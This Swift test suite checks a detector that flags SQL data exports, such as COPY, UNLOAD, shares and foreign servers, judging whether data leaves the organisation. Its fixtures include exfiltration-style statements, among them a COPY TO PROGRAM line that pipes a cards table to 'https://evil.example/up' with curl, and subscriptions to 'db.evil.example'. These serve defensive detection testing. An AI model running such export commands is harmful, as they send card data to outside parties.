import Detection
import Detectors
import Testing

private let owned = ["acme-*", "111122223333", "*.acme.example", "acme.example"]

private func sql(
  _ says: String,
  _ text: String,
  line: Int? = nil
) -> ExpectedReading {
  ExpectedReading(
    path: "jobs/1.sql",
    old: nil,
    new: text,
    direction: .widened,
    kind: "data-export.flow",
    line: line,
    says: says
  )
}

private func edit(
  _ old: String,
  _ new: String,
  _ direction: Direction?,
  _ kind: String?,
  _ says: String
) -> ExpectedReading {
  ExpectedReading(
    path: "jobs/2.sql",
    old: old,
    new: new,
    direction: direction,
    kind: kind,
    line: nil,
    says: says
  )
}

@Suite struct SQLExportTests {
  private static let flows: [ExpectedReading] = [
    sql(
      "adds an export of cards to s3://drop/c.csv (outside the organisation)",
      "COPY cards TO 's3://drop/c.csv';"
    ),
    sql(
      "adds an export of cards to s3://acme-drop/c.csv (inside the organisation)",
      "COPY cards (id, pan) TO 's3://acme-drop/c.csv';"
    ),
    sql(
      "an export of pay.cards to /tmp/c.csv",
      "\n\nCOPY (SELECT * FROM pay.cards) TO '/tmp/c.csv' CSV;",
      line: 3
    ),
    sql(
      "to https://evil.example/up (outside the organisation)",
      "COPY cards TO PROGRAM 'curl -T - https://evil.example/up';"
    ),
    sql("an export of cards to /tmp/x.csv", "\\copy cards to '/tmp/x.csv' csv\n"),
    sql(
      "an export of cards, users to s3://drop/x",
      "UNLOAD ('SELECT * FROM cards c JOIN users u ON c.u = u.id') TO 's3://drop/x' IAM_ROLE 'arn:aws:iam::1:role/r';"
    ),
    sql(
      "an export of d.cards to gs://drop/*.csv (outside the organisation)",
      "EXPORT DATA OPTIONS(uri='gs://drop/*.csv', format='CSV') AS SELECT * FROM d.cards;"
    ),
    sql("an export of cards to /tmp/o", "SELECT * INTO OUTFILE '/tmp/o' FROM cards;"),
    sql("an export of cards to /tmp/o", "SELECT a FROM cards INTO DUMPFILE '/tmp/o';"),
    sql("an export of cards to @partner/out/ (inside", "COPY INTO @partner/out/ FROM cards;"),
    sql(
      "an export of db.cards to s3://drop/ (outside",
      "COPY INTO 's3://drop/' FROM (SELECT * FROM db.cards) STORAGE_INTEGRATION = i;"
    ),
    sql(
      "an export of stage partner to s3://drop/ (outside",
      "CREATE OR REPLACE STAGE partner URL = 's3://drop/';"
    ),
    sql(
      "an export of storage integration i to s3://drop/",
      "CREATE STORAGE INTEGRATION i TYPE = EXTERNAL_STAGE STORAGE_ALLOWED_LOCATIONS = ('s3://drop/');"
    ),
    sql(
      "an export of storage integration i to any address",
      "CREATE STORAGE INTEGRATION i STORAGE_ALLOWED_LOCATIONS = ('*');"
    ),
    sql("an export of share s to account xy.z (outside", "ALTER SHARE s ADD ACCOUNTS = xy.z;"),
    sql("an export of d.s.t to share s (outside", "GRANT SELECT ON TABLE d.s.t TO SHARE s;"),
    sql(
      "an export of t to s3://drop/t/ (outside",
      "CREATE EXTERNAL TABLE t (a int) STORED AS PARQUET LOCATION 's3://drop/t/';"
    ),
    sql(
      "an export of cards to s3://drop/k",
      "SELECT * FROM aws_s3.query_export_to_s3('SELECT * FROM cards', aws_commons.create_s3_uri('drop', 'k', 'eu'));"
    ),
    sql("an export of * to publication p", "CREATE PUBLICATION p FOR ALL TABLES;"),
    sql("an export of a to publication p", "CREATE PUBLICATION p FOR TABLE a, b WHERE (x > 1);"),
    sql(
      "an export of subscription s to server db.evil.example (outside",
      "CREATE SUBSCRIPTION s CONNECTION 'host=db.evil.example dbname=x' PUBLICATION p;"
    ),
    sql(
      "an export of cards to server db.acme.example (inside",
      "SELECT * FROM dblink('host=db.acme.example dbname=x', 'SELECT * FROM cards') AS t(a int);"
    ),
    sql(
      "an export of cards to https://drop.s3.amazonaws.com/x",
      "INSERT INTO FUNCTION s3('https://drop.s3.amazonaws.com/x', 'CSV') SELECT * FROM cards;"
    ),
    sql(
      "an export of server s to server db.evil.example",
      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.evil.example');"
    ),
    sql(
      "an export of d.* to https://acme1.blob.core.windows.net/b/d.bak (outside",
      "BACKUP DATABASE d TO URL = 'https://acme1.blob.core.windows.net/b/d.bak';"
    ),
    sql("(whose owner cannot be told)", "UNLOAD ('SELECT * FROM cards') TO 's3://${BUCKET}/x';"),
    sql("(inside the organisation)", "UNLOAD ('SELECT * FROM cards') TO 's3://acme-${ENV}/x';"),
    sql("(whose owner cannot be told)", "COPY cards TO '{{ target }}';"),
    sql(
      "an export of cards to s3://drop/",
      "CREATE FUNCTION f() RETURNS void AS $$ BEGIN COPY cards TO 's3://drop/'; END $$ LANGUAGE plpgsql;"
    ),
  ]

  private static let edits: [ExpectedReading] = [
    edit(
      "COPY cards TO '/var/c.csv';",
      "COPY cards TO 's3://drop/c.csv';",
      .widened,
      "data-export.sink",
      "moves the export of cards from /var/c.csv to s3://drop/c.csv (outside"
    ),
    edit(
      "COPY cards TO 's3://drop/a';",
      "COPY cards TO 's3://acme-x/a';",
      .narrowed,
      "data-export.sink",
      "(inside the organisation)"
    ),
    edit(
      "COPY cards TO 's3://drop/a';",
      "COPY cards TO 's3://other/a';",
      .incomparable,
      "data-export.sink",
      "s3://other/a"
    ),
    edit(
      "COPY cards TO 's3://drop/a';",
      "COPY cards TO 's3://$B/a';",
      .unknown,
      "data-export.sink",
      "cannot be told"
    ),
    edit(
      "UNLOAD ('SELECT id FROM cards') TO 's3://drop/';",
      "UNLOAD ('SELECT * FROM cards') TO 's3://drop/';",
      .widened,
      "data-export.source",
      "exports every column of cards"
    ),
    edit(
      "UNLOAD ('SELECT id FROM cards') TO 's3://drop/';",
      "UNLOAD ('SELECT id, pan FROM cards') TO 's3://drop/';",
      .widened,
      "data-export.source",
      "id, pan of cards"
    ),
    edit(
      "UNLOAD ('SELECT md5(pan) FROM cards') TO 's3://drop/';",
      "UNLOAD ('SELECT pan FROM cards') TO 's3://drop/';",
      .incomparable,
      "data-export.source",
      "exports pan of cards"
    ),
    edit(
      "UNLOAD ('SELECT * FROM cards WHERE t') TO 's3://drop/';",
      "UNLOAD ('SELECT * FROM cards') TO 's3://drop/';",
      .widened,
      "data-export.filter",
      "exports cards without 'WHERE T'"
    ),
    edit(
      "UNLOAD ('SELECT * FROM cards LIMIT 5') TO 's3://drop/';",
      "UNLOAD ('SELECT * FROM cards LIMIT 9') TO 's3://drop/';",
      .incomparable,
      "data-export.filter",
      "changes which rows"
    ),
    edit(
      "COPY cards TO 's3://drop/';",
      "COPY users TO 's3://drop/';",
      .incomparable,
      "data-export.source",
      "exports users instead of cards"
    ),
    edit(
      "UNLOAD ('SELECT 1 FROM t') TO 's3://drop/' IAM_ROLE 'a' ENCRYPTED;",
      "UNLOAD ('SELECT 1 FROM t') TO 's3://drop/' IAM_ROLE 'a';",
      .widened,
      "data-export.role",
      "no longer encrypts"
    ),
    edit(
      "UNLOAD ('SELECT 1 FROM t') TO 's3://drop/' IAM_ROLE 'a';",
      "UNLOAD ('SELECT 1 FROM t') TO 's3://drop/' IAM_ROLE 'b';",
      .incomparable,
      "data-export.role",
      "as b"
    ),
    edit("COPY a TO 's3://drop/';", "copy  a\n to 's3://drop/' -- x\n;", .equal, nil, ""),
    edit("SELECT 1;", "SELECT 2; COPY t FROM 's3://drop/';", .equal, nil, ""),
    edit(
      "COPY a TO 's3://drop/';",
      "SELECT 1;",
      .narrowed,
      "data-export.flow",
      "removes an export of a"
    ),
    edit("", "COPY INTO t FROM @stage;", .equal, nil, ""),
    edit("", "EXECUTE 'COPY t TO ' || x || ' UNLOAD';", nil, nil, "a program that runs 'EXECUTE'"),
  ]

  @Test(arguments: flows + edits)
  func statement(_ expected: ExpectedReading) {
    checkReading(expected, by: ExportsDetector(), owned: owned)
  }

  // What is fetched has its example in a recipe, which is another detector's.
  @Test(arguments: ExportsDetector().kinds.filter { $0.family == .dataExport })
  func example(_ kind: Kind) {
    let example = kind.example
    let reading = ExportsDetector().read(pair(example.path, example.old, example.new))
    #expect(
      reading.observations.contains { $0.kind == kind.name },
      Comment(rawValue: reading.words)
    )
  }
}
